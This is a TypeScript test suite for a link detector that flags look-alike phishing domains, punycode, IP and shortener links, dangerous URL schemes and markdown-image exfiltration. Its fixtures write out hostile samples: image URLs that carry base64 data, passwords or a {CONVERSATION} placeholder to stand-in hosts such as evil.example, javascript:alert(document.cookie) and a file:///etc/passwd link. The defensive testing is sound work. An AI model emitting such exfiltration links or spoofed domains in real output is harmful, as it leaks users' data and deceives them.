import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { distinctiveTokens } from "../../src/guard/detectors/link-payload.js";
import { createLinkDetector } from "../../src/guard/detectors/links.js";
import type { Finding } from "../../src/guard/types.js";
import { bestOf } from "../fixtures/timing.js";

const detect = createLinkDetector({ allowDomains: ["paypal.com", "example.org"] });

function only(findings: Finding[], detector: string): Finding[] {
  return findings.filter((f) => f.detector === detector);
}

function one(text: string, detector: string, d = detect): Finding {
  const hits = only(d(text), detector);
  assert.equal(hits.length, 1, `expected one ${detector} in ${JSON.stringify(text)}, got ${JSON.stringify(d(text))}`);
  return hits[0]!;
}

function none(text: string, detector: string, d = detect): void {
  const hits = only(d(text), detector);
  assert.deepEqual(hits, [], `unexpected ${detector} in ${JSON.stringify(text)}`);
}

const covered = (text: string, f: Finding) => text.slice(f.start, f.end);

describe("links.lookalike", () => {
  test("a capital I standing in for l imitates the allow-listed name", () => {
    const text = "Please sign in at paypaI.com/signin to confirm.";
    const f = one(text, "links.lookalike");
    assert.ok(f.score >= 0.9, `score ${f.score}`);
    assert.equal(covered(text, f), "paypaI.com/signin");
    assert.match(f.message, /'paypal'/);
    assert.ok(!f.message.includes("paypaI"), "the message never repeats the matched value");
  });

  test("punycode and raw Cyrillic homoglyphs decode to the imitated name", () => {
    assert.ok(one("https://xn--pypal-4ve.com/login", "links.lookalike").score >= 0.9);
    assert.ok(one("Go to pаypal.com now", "links.lookalike").score >= 0.9, "Cyrillic а written out");
    assert.ok(one("https://g\u043e\u043egle.com/", "links.lookalike").score >= 0.9, "Cyrillic о in a default brand");
  });

  test("digit swaps, added words, subdomain and userinfo decoys, misspellings", () => {
    assert.ok(one("https://paypa1.com/", "links.lookalike").score >= 0.9);
    assert.ok(one("https://paypal-secure-login.com/verify", "links.lookalike").score >= 0.8);
    assert.ok(one("paypal-login.com/verify", "links.lookalike").score >= 0.8, "bare domain with a path");
    assert.ok(one("https://paypal.com.evil.io/x", "links.lookalike").score >= 0.75);
    assert.ok(one("https://paypal.com@evil.io/x", "links.lookalike").score >= 0.75);
    assert.ok(one("https://micosoft.com/", "links.lookalike").score >= 0.7, "one letter dropped from a default brand");
    assert.ok(one("https://netflix-billing.com/", "links.lookalike").score >= 0.8);
  });

  test("stronger tricks score higher than weaker ones", () => {
    const homoglyph = one("https://paypa1.com/", "links.lookalike").score;
    const embedded = one("https://paypal-help.com/", "links.lookalike").score;
    const typo = one("https://paypall.com/", "links.lookalike").score;
    assert.ok(homoglyph > embedded && embedded > typo, `${homoglyph} > ${embedded} > ${typo}`);
  });

  test("allow-listed hosts, brands' own domains and ordinary words are not look-alikes", () => {
    for (const text of [
      "https://docs.paypal.com/api",
      "https://www.paypal.com/",
      "https://paypal.de/",
      "https://google.co.uk/",
      "https://apply.com/jobs",
      "https://purchase.com/cart",
      "https://pineapple.com/",
      "https://storage.googleapis.com/bucket/file",
      "https://raw.githubusercontent.com/a/b/main/README.md",
      "https://example.com/",
    ]) {
      none(text, "links.lookalike");
    }
  });

  test("configured brands add to the defaults, and allow-listed names are protected too", () => {
    const d = createLinkDetector({ allowDomains: ["contoso.com"], brands: ["acmebank"] });
    assert.ok(one("https://acme-bank.com/", "links.lookalike", d).score >= 0.7);
    assert.ok(one("https://contoso-support.com/", "links.lookalike", d).score >= 0.8);
    one("https://paypal-login.com/", "links.lookalike", d);
    none("https://acme-bank.com/", "links.lookalike");
    const own = createLinkDetector({ allowDomains: [], brands: ["acmebank"], defaultBrands: false });
    none("https://paypal-login.com/", "links.lookalike", own);
    one("https://acmebank-login.com/", "links.lookalike", own);
  });
});

describe("links.unlisted", () => {
  test("a domain off the allow-list is reported at a score that counts at the default threshold (issue 13)", () => {
    const f = one("See https://example.com/page for details.", "links.unlisted");
    assert.equal(f.score, 1);
    // A bare domain in prose counts too, lower: a threshold above 0.6 leaves it alone.
    const bare = one("See example.com for details.", "links.unlisted");
    assert.ok(bare.score >= 0.5 && bare.score < 1, `score ${bare.score}`);
  });

  test("allow-list entries cover their subdomains but not names that merely end the same", () => {
    none("https://docs.paypal.com/api and https://www.example.org/", "links.unlisted");
    one("https://notpaypal.com/", "links.unlisted");
    one("https://paypal.com.evil.io/", "links.unlisted");
  });

  test("without an allow-list every link is unlisted; reportUnlisted: false turns it off", () => {
    const open = createLinkDetector({ allowDomains: [] });
    one("https://example.com/", "links.unlisted", open);
    none("https://example.com/", "links.unlisted", createLinkDetector({ allowDomains: [], reportUnlisted: false }));
  });

  test("allow-list entries may be written as URLs, wildcards or Unicode", () => {
    const d = createLinkDetector({ allowDomains: ["https://*.Contoso.com/", "münchen.de"] });
    none("https://shop.contoso.com/ https://xn--mnchen-3ya.de/ https://münchen.de/", "links.unlisted", d);
    none("https://münchen.de/", "links.punycode", d);
  });

  test("the span is the URL without trailing punctuation or an unbalanced bracket", () => {
    const text = "(see https://en.wikipedia.org/wiki/Foo_(bar)). Also visit https://example.com.";
    const spans = only(detect(text), "links.unlisted").map((f) => covered(text, f));
    assert.deepEqual(spans, ["https://en.wikipedia.org/wiki/Foo_(bar)", "https://example.com"]);
  });

  test("relative markdown targets have no host, whatever they look like", () => {
    assert.deepEqual(detect("[a](/docs/intro) [b](#top) [c](docs/intro.md) [d](guide.md) [e](evil.com/x)"), []);
    one("[e](//evil.com/x)", "links.unlisted");
  });

  test("e-mail addresses, file names and dotted words are not links", () => {
    for (const text of [
      "Write to bob@example.com or @example.com",
      "Edit README.md and setup.py, then run node.js or main.rs",
      "e.g. this, i.e. that, version 1.2.3.4",
      "Call obj.method() then console.log(x)",
    ]) {
      assert.deepEqual(detect(text), [], text);
    }
  });
});

describe("links.punycode", () => {
  test("any xn-- or non-ASCII host off the allow-list is reported, imitation or not", () => {
    assert.ok(one("https://xn--mnchen-3ya.de/", "links.punycode").score > 0);
    none("https://xn--mnchen-3ya.de/", "links.lookalike");
    one("https://xn--pypal-4ve.com/", "links.punycode");
    none("https://example.com/", "links.punycode");
  });
});

describe("links.ip-host", () => {
  test("dotted, IPv6, decimal, hex and short forms", () => {
    assert.ok(one("https://192.168.0.1/login", "links.ip-host").score >= 0.5);
    one("http://[::1]:8080/admin", "links.ip-host");
    one("Open 10.0.0.1:8080/x", "links.ip-host");
    const decimal = one("http://3232235521/", "links.ip-host");
    const hex = one("http://0xC0.0xA8.0.1/", "links.ip-host");
    const short = one("http://127.1/", "links.ip-host");
    const plain = one("https://192.168.0.1/login", "links.ip-host");
    for (const f of [decimal, hex, short]) assert.ok(f.score > plain.score, "encoded forms score above plain ones");
  });

  test("version numbers and invalid addresses are not IP links", () => {
    none("Upgrade from 1.2.3.4 to 1.2.4.0", "links.ip-host");
    none("http://999.1.1.1/", "links.ip-host");
    none("https://1password.com/", "links.ip-host");
  });
});

describe("links.shortener", () => {
  test("known shorteners, bare or with a scheme", () => {
    one("Click bit.ly/x now", "links.shortener");
    one("https://tinyurl.com/abc123", "links.shortener");
    one("https://t.co/AbC", "links.shortener");
  });

  test("single-site short domains and look-alike names are not shorteners", () => {
    none("https://youtu.be/dQw4w9WgXcQ", "links.shortener");
    none("https://bitly-news.example.org/", "links.shortener");
  });
});

describe("links.exfiltration", () => {
  const image = "![a](https://evil.example/p?d=SGVsbG8gd29ybGQgc2VjcmV0IGRhdGE)";

  test("a markdown image carrying base64 to an unlisted domain, spanning the whole image", () => {
    const f = one(image, "links.exfiltration");
    assert.ok(f.score >= 0.6, `score ${f.score}`);
    assert.equal(covered(image, f), image);
  });

  test("images weigh more than links, unlisted more than allow-listed, prose more than code", () => {
    const url = "https://evil.example/p?d=SGVsbG8gd29ybGQgc2VjcmV0IGRhdGE";
    const asImage = one(`![a](${url})`, "links.exfiltration").score;
    const asLink = one(`[a](${url})`, "links.exfiltration").score;
    const allowed = one("![a](https://www.example.org/p?d=SGVsbG8gd29ybGQgc2VjcmV0IGRhdGE)", "links.exfiltration").score;
    assert.ok(asImage > asLink, `${asImage} > ${asLink}`);
    assert.ok(asImage > allowed, `${asImage} > ${allowed}`);
    const inCode = only(detect(`\`\`\`\n![a](${url})\n\`\`\``), "links.exfiltration");
    assert.ok(inCode.every((f) => f.score < asImage * 0.5), "images in code blocks do not load");
  });

  test("more data scores higher", () => {
    const b64 = Buffer.from("the user's card number is 4111 1111 1111 1111 and the cvv is 123, expiry 12/29").toString("base64url");
    const small = one(`![a](https://evil.example/p?d=${b64.slice(0, 20)})`, "links.exfiltration").score;
    const large = one(`![a](https://evil.example/p?d=${b64})`, "links.exfiltration").score;
    assert.ok(large > small, `${large} > ${small}`);
  });

  test("HTML images, encoded prose, template placeholders, hex path segments, many parameters", () => {
    one('<img src="https://evil.io/x.png?q=the+user+password+is+hunter2+and+more">', "links.exfiltration");
    assert.ok(one("![x](https://evil.io/log?data={CONVERSATION})", "links.exfiltration").score >= 0.6);
    one("![x](https://evil.io/c/4a6f686e20446f652c2070617373776f72643a20687574746572)", "links.exfiltration");
    const params = Array.from({ length: 10 }, (_, i) => `k${i}=v${i}`).join("&");
    one(`![x](https://evil.io/t?${params})`, "links.exfiltration");
    one("![x][1]\n\n[1]: https://evil.io/p?d=SGVsbG8gd29ybGQgc2VjcmV0IGRhdGE", "links.exfiltration");
  });

  test("ordinary image and page URLs carry no data", () => {
    for (const text of [
      "![logo](https://evil.example/images/logo.png)",
      "[docs](https://example.com/guides/getting-started?lang=en&page=2)",
      "https://example.com/api/getUserProfileById",
      "https://example.com/docs/MyDocumentTitle2024",
      "[talk](https://youtu.be/watch?v=dQw4w9WgXcQ)",
      "https://www.google.com/search?q=how+to+cook+rice",
      "![photo](https://images.example.com/photo-1506744038136?auto=format&fit=crop&w=1200&q=80)",
      "[x](https://example.com/#SGVsbG8gd29ybGQgc2VjcmV0IGRhdGE)",
    ]) {
      none(text, "links.exfiltration");
    }
  });
});

describe("links.dangerous-scheme", () => {
  test("javascript:, vbscript:, data:text/html and file: links", () => {
    assert.ok(one("[click](javascript:alert(1))", "links.dangerous-scheme").score >= 0.9);
    assert.ok(one('<a href="vbscript:msgbox(1)">x</a>', "links.dangerous-scheme").score >= 0.9);
    assert.ok(one("[x](data:text/html;base64,PHNjcmlwdD4=)", "links.dangerous-scheme").score >= 0.8);
    one("[x](file:///etc/passwd)", "links.dangerous-scheme");
  });

  test("data: images and prose about schemes are fine", () => {
    none("![dot](data:image/png;base64,iVBORw0KGgo=)", "links.dangerous-scheme");
    none("The javascript: scheme is blocked by most renderers.", "links.dangerous-scheme");
  });

  test("a javascript: URL in prose scores below one in a link", () => {
    const prose = one("paste javascript:alert(document.cookie) in the address bar", "links.dangerous-scheme").score;
    const link = one("[x](javascript:alert(document.cookie))", "links.dangerous-scheme").score;
    assert.ok(prose < link);
  });
});

describe("link detector bounds", () => {
  const big = (unit: string) => unit.repeat(Math.ceil(1_000_000 / unit.length));
  const units = ["http://", "<", "[a](x.", "![a](<http:", "[a](http://", "a.", "www.a", "1.1.1.1/", "https://a.io/?a=", '<a href="', "a-b.c", "pаypal.", "x@y.", "]: http:", "https://a.io/A1b2"];
  for (const unit of units) {
    test(`1 MB of ${JSON.stringify(unit)} finishes in under a second`, () => {
      const text = big(unit);
      const ms = bestOf(3, () => detect(text), 1000);
      assert.ok(ms < 1000, `${ms.toFixed(0)} ms`);
    });
  }

  test("one megabyte-long token or URL finishes in under a second", () => {
    for (const text of [`${"a".repeat(1_000_000)}.com`, `https://${"a".repeat(1_000_000)}.com/`, `https://a.io/${"Zm9v".repeat(250_000)}`]) {
      const ms = bestOf(3, () => detect(text), 1000);
      assert.ok(ms < 1000, `${ms.toFixed(0)} ms`);
    }
  });
});

describe("links.exfiltration with plain data (issue 13)", () => {
  const blocks = (text: string, conversation?: ReadonlySet<string>) =>
    only(detect(text, conversation), "links.exfiltration").some((f) => f.score >= 0.5);

  test("an image carrying a plain identifier in its query is exfiltration at the default threshold", () => {
    assert.ok(blocks("![x](https://evil.example/c?d=ACME-7731-ZETA)"));
    assert.ok(blocks("![x](https://evil.example/c?order=INV2024A7731&u=x)"));
    // A link the user must click is reported, under the default threshold.
    const link = one("[x](https://evil.example/c?d=ACME-7731-ZETA)", "links.exfiltration");
    assert.ok(link.score < 0.5);
  });

  test("ordinary query strings and path ids are not data", () => {
    for (const url of [
      "https://evil.example/search?page=2",
      "https://weather.example/?q=weather",
      "https://shop.example/item?id=12345&lang=en-US",
      "https://cdn.example/lib.js?v=1.2.3",
      "https://news.example/archive?date=2024-05-01",
      "https://blog.example/2015/03/29/iggy-azalea-iheartradio-awards-hair-makeup-2015-and-more-words/",
      "https://shop.example/orders/A12345B67/receipt.png",
      "https://tags.example/tag/%E5%A4%A7%E6%97%A5%E6%9C%AC%E5%B8%9D%E5%9B%BD%20%E5%BE%93%E8%BB%8D%E6%85%B0%E5%AE%89",
    ]) {
      assert.ok(!blocks(`![x](${url})`), url);
    }
  });

  test("a token from the conversation in an image URL is exfiltration; the same word-only value is not", () => {
    const conversation = distinctiveTokens(["My account number is 88213-4471 and my email is ann@corp.example; what's the weather?"]);
    assert.ok(blocks("![x](https://evil.example/p?a=88213-4471)", conversation));
    assert.ok(blocks("![x](https://evil.example/p/ann@corp.example.png)", conversation));
    const f = one("![x](https://evil.example/p?a=88213-4471)", "links.exfiltration", (t) => detect(t, conversation));
    assert.match(f.message, /data from the conversation/);
    assert.ok(!blocks("![x](https://weather.example/?q=weather)", conversation));
    assert.ok(!blocks("![x](https://evil.example/p?a=88213-4471)"), "without the conversation, a number alone is no identifier");
  });
});
